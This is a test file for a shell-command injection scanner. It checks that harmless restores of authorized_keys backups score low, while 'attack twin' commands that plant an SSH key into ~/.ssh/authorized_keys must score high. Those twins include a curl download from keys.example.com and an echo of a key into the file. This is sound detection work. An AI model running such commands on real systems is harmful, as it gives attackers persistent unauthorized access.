// Round 32 (realfp32): an authorized_keys target that adds no key (a variable only named after the file, the file's own
// backup moved back) stays below warn; a key written, fetched or copied in through the same shapes keeps blocking.

import { describe, expect, test } from "vitest";
import { scan } from "../../../src/engine/injection/scan.ts";

const score = (cmd: string): number => scan(cmd, "bash", { model: null }).score;
const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0o3Uu2xwq5n0m6l4p2y1a9ZQf8HRLvQ0b4s9T1a2B3 ops@example.com";

describe("key files moved without a new key stay below warn", () => {
  test.each([
    [
      "a package's postrm moving the file aside, through variables named after it",
      '#!/bin/sh\nset -e\nauthorized_keys=/var/lib/app/.ssh/authorized_keys.dpkg-tmp\nmoved_authorized_keys=/etc/app/authorized_keys.old\nif [ -s "$authorized_keys" ]; then\n  mkdir -p "$(dirname $moved_authorized_keys)"\n  mv "$authorized_keys" "$moved_authorized_keys"\nfi',
    ],
    [
      "a package's postinst putting back the backup an upgrade set aside",
      '#!/bin/sh\nset -e\nsshdir=/var/lib/app/.ssh\nif [ ! -s "$sshdir/authorized_keys" -a \\\n     -s "$sshdir/authorized_keys.old" ]; then\n  mv "$sshdir/authorized_keys.old" "$sshdir/authorized_keys"\nfi',
    ],
    ["the user's own backup restored", "mv ~/.ssh/authorized_keys.bak ~/.ssh/authorized_keys"],
    ["a dpkg leftover copied back", "cp /home/deploy/.ssh/authorized_keys.dpkg-old /home/deploy/.ssh/authorized_keys"],
  ])("%s", (_label, cmd) => {
    expect(score(cmd)).toBeLessThan(0.5);
  });
});

describe("their attack twins stay blocked", () => {
  test.each([
    ["a variable named after the file, never set", 'mv /tmp/k.pub "$authorized_keys"'],
    [
      "a variable set to the live key file",
      'k_authorized_keys=~/.ssh/authorized_keys\nmv /tmp/k.pub "$k_authorized_keys"',
    ],
    [
      "a variable set from a substitution",
      'authorized_keys="$(ls -d ~/.ssh)/authorized_keys"\nmv /tmp/k.pub "$authorized_keys"',
    ],
    [
      "a backup the script wrote the key into",
      `echo "${KEY}" > ~/.ssh/authorized_keys.old\nmv ~/.ssh/authorized_keys.old ~/.ssh/authorized_keys`,
    ],
    [
      "a backup the script downloaded",
      'curl -fsSL https://keys.example.com/k -o "$HOME/.ssh/authorized_keys.bak"\nmv "$HOME/.ssh/authorized_keys.bak" "$HOME/.ssh/authorized_keys"',
    ],
    [
      "a backup the script copied in",
      "cp /tmp/.k ~/.ssh/authorized_keys.orig\nmv ~/.ssh/authorized_keys.orig ~/.ssh/authorized_keys",
    ],
    ["another file's backup", "mv /tmp/keys.old ~/.ssh/authorized_keys"],
  ])("%s", (_label, cmd) => {
    expect(score(cmd)).toBeGreaterThanOrEqual(0.8);
  });
});
